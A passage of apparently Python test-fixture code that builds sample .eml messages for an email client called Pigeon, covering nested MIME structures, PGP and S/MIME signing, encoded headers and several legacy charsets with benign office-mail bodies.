<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}
o\\:* {behavior:url(#default#VML);}
</style><![endif]--><style><!--
/* Font Definitions */
@font-face
\t{font-family:Aptos;}
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
\t{margin:0cm;
\tfont-size:12.0pt;
\tfont-family:"Aptos",sans-serif;}
span.EmailStyle17
\t{mso-style-type:personal-compose;}
@page WordSection1
\t{size:612.0pt 792.0pt;
\tmargin:72.0pt 72.0pt 72.0pt 72.0pt;}
div.WordSection1
\t{page:WordSection1;}
--></style>
</head>
<body lang="EN-IE" link="#467886" vlink="#96607D" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Hi all,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Volumes for February are up 12&nbsp;% on January (see chart).<o:p></o:p></p>
<p class="MsoNormal"><img width="400" height="240" style="width:4.1666in;height:2.5in" id="Picture_x0020_2" src="cid:image002.png@01DB8DF1.3A2B1C00" alt="Bar chart of monthly volumes"><o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Best regards,<br>Siobhán<o:p></o:p></p>
<p class="MsoNormal"><img border="0" width="24" height="24" id="Picture_x0020_1" src="cid:logo-kestrel" alt="Kestrel"><o:p></o:p></p>
<p class="MsoNormal"><b>Siobhán Ní Bhriain</b> | Operations Analyst | Kestrel Analytics<o:p></o:p></p>
</div>
</body>
</html>
"""
    return wire("""\
Return-Path: <siobhan.nibhriain@kestrel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from EUR05-AM6-obe.outbound.protection.example.com (mail-am6eur05on2102.outbound.protection.example.com [203.0.113.102])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7LtC0dJ9z9sVn
\tfor <pigeon-test@mail.example.org>; Tue, 11 Mar 2025 11:04:45 +0100 (CET)
From: =?utf-8?B?U2lvYmjDoW4gTsOtIEJocmlhaW4=?= <siobhan.nibhriain@kestrel.example.org>
To: Ops Team <ops@kestrel.example.org>
CC: "pigeon-test@mail.example.org" <pigeon-test@mail.example.org>
Subject: February volumes
Thread-Topic: February volumes
Thread-Index: AduSdB1yP0Ekf6x3Q8y+vB3m2s0z7w==
Date: Tue, 11 Mar 2025 10:04:39 +0000
Message-ID: <AM0PR07MB5512F0E1D2C3B4A5968778695A4B3C2D@AM0PR07MB5512.eurprd07.prod.outlook.example.com>
Accept-Language: en-IE, en-US
Content-Language: en-IE
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
msip_labels:
Content-Type: multipart/related;
\tboundary="@@R@@";
\ttype="multipart/alternative"
MIME-Version: 1.0

--@@R@@
Content-Type: multipart/alternative;
\tboundary="@@A@@"

--@@A@@
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

""".replace("@@R@@", R).replace("@@A@@", A), b64(text.encode("utf-8")), """\

--@@A@@
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

""".replace("@@A@@", A), b64(html.encode("utf-8")), """\

--@@A@@--

--@@R@@
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=@@S1@@;
\tcreation-date="Tue, 11 Mar 2025 10:04:39 GMT";
\tmodification-date="Tue, 11 Mar 2025 10:04:39 GMT"
Content-ID: <logo-kestrel>
Content-Transfer-Encoding: base64

""".replace("@@R@@", R).replace("@@A@@", A).replace("@@S1@@", str(len(logo))), b64(logo), """\

--@@R@@
Content-Type: image/png; name="image002.png"
Content-Description: image002.png
Content-Disposition: inline; filename="image002.png"; size=@@S2@@;
\tcreation-date="Tue, 11 Mar 2025 10:04:39 GMT";
\tmodification-date="Tue, 11 Mar 2025 10:04:39 GMT"
Content-ID: <image002.png@01DB8DF1.3A2B1C00>
Content-Transfer-Encoding: base64

""".replace("@@R@@", R).replace("@@S2@@", str(len(chart))), b64(chart), """\

--@@R@@--
""".replace("@@R@@", R))


@fixture("018-nested-mixed-alternative-related.eml",
         "nested,alternative,related,html,attachment,charset-utf-8",
         "Thunderbird deep nesting: mixed > [alternative > [text, related > [html, "
         "inline PNG]], PDF attachment].")
def _():
    logo = png(24, 24, png_logo)
    doc = pdf("Pigeon 0.9 release checklist", ["1. Tag the release", "2. Upload tarball",
                                               "3. Announce on pigeon-devs"])
    return wire("""\
Return-Path: <chen.wei@kestrel.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.kestrel.example.net (smtp.kestrel.example.net [198.51.100.88])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7MwF3gL1z9sVp
\tfor <pigeon-test@mail.example.org>; Tue, 11 Mar 2025 15:22:16 +0100 (CET)
Content-Type: multipart/mixed; boundary="------------mx0A1b2C3d4E5f6G7h8I9j0K"
Message-ID: <e2d4f6a8-1b3c-4d5e-8f70-a1b2c3d4e5f6@kestrel.example.net>
Date: Tue, 11 Mar 2025 22:22:09 +0800
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: pigeon-test@mail.example.org
From: Chen Wei <chen.wei@kestrel.example.net>
Subject: Release checklist for 0.9

This is a multi-part message in MIME format.
--------------mx0A1b2C3d4E5f6G7h8I9j0K
Content-Type: multipart/alternative;
 boundary="------------al1B2c3D4e5F6g7H8i9J0kL1"

--------------al1B2c3D4e5F6g7H8i9J0kL1
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Hi,

the release checklist is attached. Please tick off your items by Friday.

Wei

--------------al1B2c3D4e5F6g7H8i9J0kL1
Content-Type: multipart/related;
 boundary="------------re2C3d4E5f6G7h8I9j0K1lM2"

--------------re2C3d4E5f6G7h8I9j0K1lM2
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 7bit

<!DOCTYPE html>
<html>
  <head>
    <meta http-equiv="content-type" content="text/html; charset=UTF-8">
  </head>
  <body>
    <p><img src="cid:part1.Yk3Xq0Tz.Lm9Wc2Rv@kestrel.example.net" alt="Pigeon"
        width="24" height="24"> Hi,</p>
    <p>the release checklist is attached. Please tick off your items by
      <b>Friday</b>.</p>
    <p>Wei</p>
  </body>
</html>
--------------re2C3d4E5f6G7h8I9j0K1lM2
Content-Type: image/png; name="pigeon.png"
Content-Disposition: inline; filename="pigeon.png"
Content-Id: <part1.Yk3Xq0Tz.Lm9Wc2Rv@kestrel.example.net>
Content-Transfer-Encoding: base64

""", b64(logo, 72), """\

--------------re2C3d4E5f6G7h8I9j0K1lM2--

--------------al1B2c3D4e5F6g7H8i9J0kL1--
--------------mx0A1b2C3d4E5f6G7h8I9j0K
Content-Type: application/pdf; name="release-checklist-0.9.pdf"
Content-Disposition: attachment; filename="release-checklist-0.9.pdf"
Content-Transfer-Encoding: base64

""", b64(doc, 72), """\

--------------mx0A1b2C3d4E5f6G7h8I9j0K--
""")


INNER_FORWARDED = """\
Return-Path: <priya.r@kestrel.example.org>
Received: from out.kestrel.example.org (out.kestrel.example.org [192.0.2.77])
\tby mx.brightwater.example.net (Postfix) with ESMTPS id 4Z7N0a1bC2z8kQx
\tfor <tobias.brandt@brightwater.example.net>; Wed, 12 Mar 2025 08:55:03 +0100 (CET)
Message-ID: <20250312075458.Horde.q3L0vXk9nB2mZ7cT1yR4Aa8@webmail.kestrel.example.org>
Date: Wed, 12 Mar 2025 07:54:58 +0000
From: Priya Raghunathan <priya.r@kestrel.example.org>
To: Tobias Brandt <tobias.brandt@brightwater.example.net>
Subject: =?utf-8?Q?Kestrel_=E2=86=92_Brightwater_data_export?=
User-Agent: Horde Application Framework 5
Content-Type: multipart/alternative; boundary="=_XkP2m0lQ7vB9cT3yR1nA4"
MIME-Version: 1.0

This message is in MIME format.

--=_XkP2m0lQ7vB9cT3yR1nA4
Content-Type: text/plain; charset=utf-8; format=flowed; DelSp=Yes
Content-Disposition: inline
Content-Transfer-Encoding: 8bit

Tobias,

the member export is ready: 1 482 rows, one per household. The
columns are documented on the wiki. I removed everybody who opted out.

Priya

--=_XkP2m0lQ7vB9cT3yR1nA4
Content-Type: text/html; charset=utf-8
Content-Disposition: inline
Content-Transfer-Encoding: 8bit

<p>Tobias,</p><p>the member export is ready: 1&nbsp;482 rows, one per household. The columns are documented on the <a href="https://wiki.kestrel.example.org/Exports">wiki</a>. I removed everybody who opted out.</p><p>Priya</p>
--=_XkP2m0lQ7vB9cT3yR1nA4--
"""


@fixture("019-forward-as-attachment-rfc822.eml", "nested,attachment,encoded-header,charset-utf-8",
         "Fwd: with the original attached as message/rfc822 (Thunderbird 'forward as "
         "attachment'); the inner message is itself multipart/alternative with an "
         "encoded Subject and 8bit bodies.")
def _():
    return wire("""\
Return-Path: <tobias.brandt@brightwater.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.brightwater.example.net (mail.brightwater.example.net [203.0.113.41])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7N3d4eF5z9sVq
\tfor <pigeon-test@mail.example.org>; Wed, 12 Mar 2025 09:10:27 +0100 (CET)
Content-Type: multipart/mixed; boundary="------------fw3D4e5F6g7H8i9J0k1L2m3N"
Message-ID: <0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d@brightwater.example.net>
Date: Wed, 12 Mar 2025 09:10:21 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: pigeon-test@mail.example.org
From: Tobias Brandt <tobias.brandt@brightwater.example.net>
Subject: =?UTF-8?Q?Fwd=3A_Kestrel_=E2=86=92_Brightwater_data_export?=

This is a multi-part message in MIME format.
--------------fw3D4e5F6g7H8i9J0k1L2m3N
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

FYI, see Priya's mail below. Can you import this before the AGM?

Tobias

--------------fw3D4e5F6g7H8i9J0k1L2m3N
Content-Type: message/rfc822; name="Kestrel -> Brightwater data export.eml"
Content-Disposition: attachment;
 filename="Kestrel -> Brightwater data export.eml"
Content-Transfer-Encoding: 8bit

""", INNER_FORWARDED, """\

--------------fw3D4e5F6g7H8i9J0k1L2m3N--
""")


@fixture("020-pgp-mime-signed.eml", "signed,plain,charset-utf-8",
         "RFC 3156 multipart/signed (protocol=application/pgp-signature, micalg=pgp-sha256) "
         "from NeoMutt: QP text part + armored detached signature (fake bytes, valid CRC24).")
def _():
    sig = armor("SIGNATURE", pgp_signature("020"))
    return wire("""\
Return-Path: <jkoehler@kestrel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from shell.kestrel.example.org (shell.kestrel.example.org [IPv6:2001:db8:4a::25])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7PgH7jK2z9sVr
\tfor <pigeon-test@mail.example.org>; Wed, 12 Mar 2025 20:31:40 +0000 (UTC)
Date: Wed, 12 Mar 2025 20:31:36 +0000
From: Jens Koehler <jkoehler@kestrel.example.org>
To: pigeon-test@mail.example.org
Subject: Signed: new release key fingerprint
Message-ID: <Z9HvKDzQ1mR8xT3p@shell.kestrel.example.org>
MIME-Version: 1.0
Content-Type: multipart/signed; micalg=pgp-sha256;
\tprotocol="application/pgp-signature"; boundary="q3xk7vtl2mw5hdpn"
Content-Disposition: inline
User-Agent: NeoMutt/20231103


--q3xk7vtl2mw5hdpn
Content-Type: text/plain; protected-headers=v1; charset=utf-8
Content-Disposition: inline
Content-Transfer-Encoding: quoted-printable
Date: Wed, 12 Mar 2025 20:31:36 +0000
From: Jens Koehler <jkoehler@kestrel.example.org>
To: pigeon-test@mail.example.org
Subject: Signed: new release key fingerprint

""", qp("""\
Hi,

from the 0.9 release on, tarballs are signed with a new key:

  ed25519 2025-03-01 [SC] [expires: 2027-03-01]
        3F1A 9C2E 7B4D 60A8 E5F1  2C3B 9D8E 7F6A 5B4C 3D2E
  uid   Jens Köhler (Pigeon release signing) <jkoehler@kestrel.example.org>

The old RSA key stays valid for verifying older releases.

Jens
"""), """\

--q3xk7vtl2mw5hdpn
Content-Type: application/pgp-signature; name="signature.asc"
Content-Description: signature

""", sig, """\

--q3xk7vtl2mw5hdpn--
""")


@fixture("021-pgp-mime-encrypted.eml", "encrypted",
         "RFC 3156 multipart/encrypted from Thunderbird: application/pgp-encrypted "
         "'Version: 1' control part + armored PGP MESSAGE (fake bytes, valid CRC24); "
         "Subject hidden as '...' (protected headers).")
def _():
    msg = armor("MESSAGE", pgp_message("021"))
    return wire("""\
Return-Path: <priya.r@kestrel.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from out.kestrel.example.org (out.kestrel.example.org [192.0.2.77])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7QjK8lM3z9sVs
\tfor <pigeon-test@mail.example.org>; Thu, 13 Mar 2025 07:45:19 +0000 (UTC)
Message-ID: <7b9d1f3a-5c7e-4a9b-8d0f-2e4a6c8e0b2d@kestrel.example.org>
Date: Thu, 13 Mar 2025 07:45:13 +0000
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-GB
To: pigeon-test@mail.example.org
From: Priya Raghunathan <priya.r@kestrel.example.org>
Subject: ...
Autocrypt: addr=priya.r@kestrel.example.org; keydata=
 xjMEZ8cqEBYJKwYBBAHaRw8BAQdAq3n0p7R1x2m8Yk4c9Vt6LzH1s0wE5aJ3fB2gN7uQdRjN
 LFByaXlhIFJhZ2h1bmF0aGFuIDxwcml5YS5yQGtlc3RyZWwuZXhhbXBsZS5vcmc+
Content-Type: multipart/encrypted;
 protocol="application/pgp-encrypted";
 boundary="------------enc4E5f6G7h8I9j0K1l2M3n4O"

This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)
--------------enc4E5f6G7h8I9j0K1l2M3n4O
Content-Type: application/pgp-encrypted
Content-Description: PGP/MIME version identification

Version: 1

--------------enc4E5f6G7h8I9j0K1l2M3n4O
Content-Type: application/octet-stream; name="encrypted.asc"
Content-Description: OpenPGP encrypted message
Content-Disposition: inline; filename="encrypted.asc"

""", msg, """\

--------------enc4E5f6G7h8I9j0K1l2M3n4O--
""")


@fixture("022-smime-signed.eml", "signed,plain,attachment,charset-us-ascii",
         "Apple Mail S/MIME: multipart/signed; protocol=application/pkcs7-signature with "
         "smime.p7s (fake DER, base64).")
def _():
    p7s = der_blob("022", b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x82\x0b\x0d"
                   b"\x30\x82\x0b\x09\x02\x01\x01\x31\x0d\x30\x0b\x06\x09\x60\x86\x48\x01"
                   b"\x65\x03\x04\x02\x01", 2868)
    return wire("""\
Return-Path: <margit.salo@tallowmere.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.tallowmere.example.com (smtp.tallowmere.example.com [198.51.100.23])
\tby mx2.mail.example.org (Postfix) with ESMTPS id 4Z7RkL9mN4z9sRw
\tfor <pigeon-test@mail.example.org>; Thu, 13 Mar 2025 08:20:05 +0100 (CET)
From: Margit Salo <margit.salo@tallowmere.example.com>
Content-Type: multipart/signed;
\tboundary="Apple-Mail=_A1B2C3D4-E5F6-4A7B-8C9D-0E1F2A3B4C5D";
\tprotocol="application/pkcs7-signature";
\tmicalg=sha-256
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.400.131.1.6\\))
Subject: Bank details for the new supplier
Message-Id: <9C8B7A6D-5E4F-4321-8765-4321FEDCBA98@tallowmere.example.com>
Date: Thu, 13 Mar 2025 08:19:58 +0100
To: Accounts <pigeon-test@mail.example.org>
X-Mailer: Apple Mail (2.3826.400.131.1.6)


--Apple-Mail=_A1B2C3D4-E5F6-4A7B-8C9D-0E1F2A3B4C5D
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

Hello,

this message is signed so you can check it really comes from me. The
new supplier's bank details are on the signed PDF in the shared drive;
please do NOT use any account number that arrives by unsigned mail.

Margit

--Apple-Mail=_A1B2C3D4-E5F6-4A7B-8C9D-0E1F2A3B4C5D
Content-Disposition: attachment;
\tfilename=smime.p7s
Content-Type: application/pkcs7-signature;
\tname=smime.p7s
Content-Transfer-Encoding: base64

""", b64(p7s), """\

--Apple-Mail=_A1B2C3D4-E5F6-4A7B-8C9D-0E1F2A3B4C5D--
""")


# ---------------------------------------------------------------------------
# Encoded headers and charsets

@fixture("023-encoded-header-utf8-base64.eml", "encoded-header,plain,charset-utf-8",
         "RFC 2047 B-encoded UTF-8 From/To/Cc/Subject (Chinese, Greek, Arabic RTL), "
         "Subject folded over several encoded words; base64 UTF-8 body (Foxmail).")
def _():
    subj = "关于下周三项目评审会议的安排 / Συνάντηση αξιολόγησης έργου την Τετάρτη"
    body = """\
各位好，

下周三（3月19日）上午十点在三楼大会议室进行项目评审，请提前准备好演示材料。

Καλημέρα σε όλους,
η αξιολόγηση του έργου θα γίνει την Τετάρτη 19 Μαρτίου στις 10:00.

مرحباً، سيكون الاجتماع يوم الأربعاء الساعة العاشرة صباحاً.

陈伟
"""
    return wire("""\
Return-Path: <chen.wei@kestrel.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from smtp.kestrel.example.net (smtp.kestrel.example.net [198.51.100.88])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7SmN0pQ5z9sVt
\tfor <pigeon-test@mail.example.org>; Fri, 14 Mar 2025 03:18:51 +0100 (CET)
Date: Fri, 14 Mar 2025 10:18:44 +0800
From: "@@FROM@@" <chen.wei@kestrel.example.net>
To: @@TO1@@ <eleni.p@kestrel.example.net>,
\t@@TO2@@ <layla.haddad@kestrel.example.net>
Cc: @@CC@@ <pigeon-test@mail.example.org>
Subject: @@SUBJ@@
X-Priority: 3
X-GUID: 5E0C4D9A-7B1F-4C2E-9A3D-8F6B1E0C2D4A
X-Has-Attach: no
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Message-ID: <202503141018440521432@kestrel.example.net>
Content-Type: text/plain;
\tcharset="UTF-8"
Content-Transfer-Encoding: base64

""".replace("@@FROM@@", _ew("陈伟 (Chen Wei)", "UTF-8", "B"))
       .replace("@@TO1@@", _ew("Ελένη Παπαδοπούλου", "UTF-8", "B"))
       .replace("@@TO2@@", _ew("ليلى حداد", "UTF-8", "B"))
       .replace("@@CC@@", _ew("测试 Pigeon", "UTF-8", "B"))
       .replace("@@SUBJ@@", ew(subj, "UTF-8", "B", sep="\n\t")),
        b64(body.encode("utf-8")))


@fixture("024-encoded-header-utf8-q.eml", "encoded-header,plain,charset-utf-8",
         "RFC 2047 Q encoding: lowercase ?q?, adjacent encoded words whose separating "
         "whitespace must vanish, encoded words mixed with plain text, underscores and "
         "=5F; Roundcube; obsolete Date (2-digit year, EST).")
def _():
    return wire("""\
Return-Path: <lukasz.zolc@wisla.example.org>
Delivered-To: pigeon-test@mail.example.org
Received: from webmail.wisla.example.org (webmail.wisla.example.org [203.0.113.9])
\tby mx1.mail.example.org (Postfix) with ESMTPSA id 4Z7TnP1qR6z9sVu
\tfor <pigeon-test@mail.example.org>; Fri,  7 Mar 2025 17:02:14 +0100 (CET)
MIME-Version: 1.0
Date: Fri, 07 Mar 25 11:02:09 EST
From: =?utf-8?q?=C5=81ukasz_=C5=BB=C3=B3=C5=82=C4=87?= <lukasz.zolc@wisla.example.org>
To: =?utf-8?q?Zo=C3=AB?= Ångström-Test <pigeon-test@mail.example.org>,
 =?UTF-8?Q?Bj=C3=B6rk_Gu=C3=B0mundsd=C3=B3ttir?= <bjork@example.net>
Subject: [Budget] =?utf-8?q?Spotkanie_w_sprawie_bud=C5=BCetu?=
 =?utf-8?q?_=E2=80=94_pi=C4=85tek?= (draft_2 =?utf-8?q?snake=5Fcase=5Fname?=)
Message-ID: <4f7e1c2a9b3d8e5f6a0b1c2d3e4f5a6b@wisla.example.org>
X-Sender: lukasz.zolc@wisla.example.org
User-Agent: Roundcube Webmail/1.6.6
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: quoted-printable

""", qp("""\
Cześć,

spotkanie w sprawie budżetu przenosimy na piątek, 14 marca, godz. 10:00.\x20
Proszę przynieść wydruki z zestawieniem kosztów.

Zażółć gęślą jaźń — to tylko test polskich znaków.

Łukasz
"""))


@fixture("025-charset-iso-8859-1.eml", "encoded-header,plain,charset-iso-8859-1",
         "Outlook Express 6: ISO-8859-1 Q-encoded From/Subject, raw 8bit Latin-1 body "
         "(French/Spanish/German); Date with single-digit hour and (CET) comment.")
def _():
    body = """\
Bonjour à tous,

La réunion du comité des fêtes aura lieu mardi prochain à 20 h, salle
Émile-Zola. Ordre du jour :

  1. Bilan de la fête de l'été (année 2024)
  2. Marché de Noël : stands, crêpes et vin chaud
  3. Questions diverses

¿Vienes tú también, Begoña? ¡Claro que sí! El niño puede venir.
Die Grüße aus München gelten natürlich auch für Jürgen. ½ Stunde reicht.

Amicalement,
François
"""
    return wire("""\
Return-Path: <francois.lefevre@lyon.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from pc-francois (lns-3-2-17.lyon.example.com [192.0.2.117])
\tby smtp.lyon.example.com (Postfix) with ESMTPA id 6A1B2C3D4E
\tfor <pigeon-test@mail.example.org>; Sat,  8 Mar 2025 09:05:03 +0100 (CET)
Received: from smtp.lyon.example.com (smtp.lyon.example.com [192.0.2.10])
\tby mx1.mail.example.org (Postfix) with ESMTP id 4Z7VpQ2rS7z9sVv
\tfor <pigeon-test@mail.example.org>; Sat,  8 Mar 2025 09:05:06 +0100 (CET)
Message-ID: <000701db8f23$4c5d6e70$0a00a8c0@pcfrancois>
From: =?iso-8859-1?Q?Fran=E7ois_Lef=E8vre?= <francois.lefevre@lyon.example.com>
To: "Comité" <pigeon-test@mail.example.org>
Subject: =?iso-8859-1?Q?R=E9union_du_comit=E9_des_f=EAtes_:_ordre_du_jour?=
Date: Sat, 8 Mar 2025 9:05:00 +0100 (CET)
MIME-Version: 1.0
Content-Type: text/plain;
\tformat=flowed;
\tcharset="iso-8859-1";
\treply-type=original
Content-Transfer-Encoding: 8bit
X-Priority: 3
X-MSMail-Priority: Normal
X-Mailer: Microsoft Outlook Express 6.00.2900.5931
X-MimeOLE: Produced By Microsoft MimeOLE V6.00.2900.6157

""".replace('"Comité"', '"Comit=?iso-8859-1?Q?=E9?="'), body.encode("iso-8859-1"))


@fixture("026-charset-shift-jis.eml", "encoded-header,plain,charset-shift_jis",
         "Becky! mail in Shift_JIS: B-encoded From/To/Subject, raw 8bit Shift_JIS body "
         "with half-width katakana and characters whose second byte is 0x5C ('\\').")
def _():
    body = """\
ピジョン テスト 様

お世話になっております。さくら商事の田中です。

３月１４日（金）の会議室の予約について、下記のとおりご連絡いたします。

　日時：３月１４日（金）１４：００〜１５：３０
　場所：本社３階　第２会議室
　議題：新しいメールソフトの表示テスト

半角カナのテスト：ｱｲｳｴｵ ｶﾞｷﾞｸﾞ
「表」「ソ」「能」など、２バイト目が 0x5C の文字も含めています。
表示が崩れないかご確認ください。

よろしくお願いいたします。

――――――――――――――――
さくら商事株式会社　総務部
田中 由紀
――――――――――――――――
"""
    return wire("""\
Return-Path: <yuki.tanaka@sakura.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from mail.sakura.example.net (mail.sakura.example.net [203.0.113.150])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7WqR3sT8z9sVw
\tfor <pigeon-test@mail.example.org>; Tue, 11 Mar 2025 02:14:33 +0100 (CET)
Date: Tue, 11 Mar 2025 10:14:27 +0900
From: @@FROM@@ <yuki.tanaka@sakura.example.net>
To: @@TO@@ <pigeon-test@mail.example.org>
Subject: @@SUBJ@@
Message-Id: <20250311101427.5B3C.A1B2C3D4@sakura.example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset="Shift_JIS"
Content-Transfer-Encoding: 8bit
X-Mailer: Becky! ver. 2.81.04 [ja]

""".replace("@@FROM@@", _ew("田中 由紀", "Shift_JIS", "B"))
       .replace("@@TO@@", _ew("ピジョン テスト", "Shift_JIS", "B"))
       .replace("@@SUBJ@@", ew("会議室の予約について（３月１４日）ソフト表示の件", "Shift_JIS", "B",
                               sep="\n\t")),
        body.encode("shift_jis"))


@fixture("027-charset-koi8-r.eml", "encoded-header,plain,charset-koi8-r",
         "The Bat! mail in KOI8-R: B-encoded From/Subject/Organization, raw 8bit KOI8-R "
         "body (Russian, with ё) and The Bat!-style headers.")
def _():
    body = """\
Здравствуйте, коллеги!

Отчёт о поставках за февраль:

  Склад         Палет   Отгружено
  ---------------------------------
  Северный        412        398
  Южный           287        301
  Причал 7         96         96

Расхождение по Южному складу (14 палет) объясняется возвратами от
"Кестрел". Подробности - в приложении к следующему письму.

Ещё вопрос: кто будет дежурить 8 марта?

--\x20
С уважением,
 Дмитрий                          mailto:d.volkov@sever.example.net
"""
    return wire("""\
Return-Path: <d.volkov@sever.example.net>
Delivered-To: pigeon-test@mail.example.org
Received: from [192.0.2.45] (helo=dmitry-pc)
\tby smtp.sever.example.net with esmtpa (Exim 4.97)
\t(envelope-from <d.volkov@sever.example.net>)
\tid 1trXyZ-0003Qa-2B
\tfor pigeon-test@mail.example.org;
\tMon, 10 Mar 2025 12:30:49 +0300
Received: from smtp.sever.example.net ([198.51.100.200])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7XrS4tU9z9sVx
\tfor <pigeon-test@mail.example.org>; Mon, 10 Mar 2025 10:30:52 +0100 (CET)
Date: Mon, 10 Mar 2025 12:30:45 +0300
From: @@FROM@@ <d.volkov@sever.example.net>
Reply-To: @@FROM@@ <d.volkov@sever.example.net>
Organization: @@ORG@@
X-Priority: 3 (Normal)
Message-ID: <1741599045.20250310123045@sever.example.net>
To: pigeon-test@mail.example.org
Subject: @@SUBJ@@
X-Mailer: The Bat! (v10.4.0.3) Professional
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: 8bit

""".replace("@@FROM@@", _ew("Дмитрий Волков", "koi8-r", "B"))
       .replace("@@ORG@@", _ew('ООО "Север-Логистик"', "koi8-r", "B"))
       .replace("@@SUBJ@@", _ew("Отчёт о поставках за февраль", "koi8-r", "B")),
        body.encode("koi8_r"))


@fixture("028-charset-windows-1252-outlook.eml",
         "encoded-header,alternative,html,charset-windows-1252",
         "Outlook 16 multipart/alternative in windows-1252 (QP): smart quotes, en dash, "
         "euro sign, ellipsis (0x80-0x9F bytes), Windows-1252 Q-encoded Subject/From, "
         "Word-generated HTML.")
def _():
    text = """\
Hi all,

Attached are the \u201cfinal\u201d Q1 figures \u2013 revenue came in at \u20ac1.24m, which is 3 % above plan\u2026

Don\u2019t forward these outside the company yet; we\u2019re still waiting for the auditor\u2019s sign-off.

Thanks,
D\u00f3nal
"""
    html = """\
<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=Windows-1252">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
p.MsoNormal, li.MsoNormal, div.MsoNormal
\t{margin:0cm;
\tfont-size:11.0pt;
\tfont-family:"Calibri",sans-serif;}
--></style>
</head>
<body lang="EN-IE" link="#0563C1" vlink="#954F72">
<div class="WordSection1">
<p class="MsoNormal">Hi all,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Attached are the \u201cfinal\u201d Q1 figures \u2013 revenue came in at <b>\u20ac1.24m</b>, which is 3&nbsp;% above plan\u2026<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Don\u2019t forward these outside the company yet; we\u2019re still waiting for the auditor\u2019s sign-off.<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Thanks,<o:p></o:p></p>
<p class="MsoNormal">D\u00f3nal<o:p></o:p></p>
</div>
</body>
</html>
"""
    A = "_000_DB9PR03MB7312AB12CD34EF56AB78CD90EF12AB34DB9PR03MB7312eurp_"
    return wire("""\
Return-Path: <d.osullivan@harbourline.example.com>
Delivered-To: pigeon-test@mail.example.org
Received: from EUR03-DBA-obe.outbound.protection.example.com (mail-dbaeur03on2072.outbound.protection.example.com [203.0.113.72])
\tby mx1.mail.example.org (Postfix) with ESMTPS id 4Z7YsT5vW0z9sVy
\tfor <pigeon-test@mail.example.org>; Mon, 10 Mar 2025 17:48:30 +0100 (CET)
From: =?Windows-1252?Q?D=F3nal_O=92Sullivan?= <d.osullivan@harbourline.example.com>
To: Finance <pigeon-test@mail.example.org>
Subject: =?Windows-1252?Q?Q1_figures_=96_=93final=94_version?=
Thread-Topic: =?Windows-1252?Q?Q1_figures_=96_=93final=94_version?=
Thread-Index: AduRz4Lq5G3YyA1rU2v5w7x9z1B3Cw==
Date: Mon, 10 Mar 2025 16:48:26 +0000
Message-ID: <DB9PR03MB7312AB12CD34EF56AB78CD90EF12AB34@DB9PR03MB7312.eurprd03.prod.outlook.example.com>
Accept-Language: en-IE, en-US
Content-Language: en-IE
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-exchange-organization-scl: -1
Content-Type: multipart/alternative;
\tboundary="@@A@@"
MIME-Version: 1.0

--@@A@@
Content-Type: text/plain; charset="Windows-1252"
Content-Transfer-Encoding: quoted-printable

""".replace("@@A@@", A), qp(text.encode("cp1252")), """\

--@@A@@
